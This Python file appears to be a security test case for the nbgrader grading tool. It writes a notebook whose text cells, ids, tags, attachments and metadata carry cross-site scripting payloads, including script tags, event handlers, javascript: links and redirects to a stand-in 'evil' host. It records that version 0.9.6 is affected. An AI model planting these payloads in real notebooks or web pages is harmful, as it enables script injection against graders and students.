"""Put a script into Markdown, raw cells, names and attachments.

Not only outputs become a page: text cells do too, and so do ids, tags and the title of a
notebook.
"""

import json

NUMBER = "92"
WANTS = "host"
STOCK = "succeeds: no grade for the student (nbgrader 0.9.6)"
SCRIPT = "<script>alert(4711)</script><img src=x onerror=alert(4711)>"
TEXT = f"""# {SCRIPT}

{SCRIPT} [click](javascript:alert(4711)) <a href="data:text/html,{SCRIPT}">here</a>

<svg onload=alert(4711)></svg> <details ontoggle=alert(4711) open>x</details> $x$ {{{{ 1 + 1 }}}}
<style>body {{ display: none }}</style><base href=//evil>
<meta http-equiv=refresh content="0;url=//evil">
"""


def submit(folder, work):
    for kind in ("markdown", "raw"):
        work["cells"].insert(
            0,
            {
                "cell_type": kind,
                "id": SCRIPT,
                "metadata": {"tags": [SCRIPT], "format": "text/html", "raw_mimetype": "text/html"},
                "attachments": {SCRIPT: {"image/svg+xml": SCRIPT}},
                "source": TEXT,
            },
        )
    work["metadata"] |= {"title": SCRIPT, "authors": [{"name": SCRIPT}], "widgets": {"x": SCRIPT}}
    (folder / "target.ipynb").write_text(json.dumps(work))
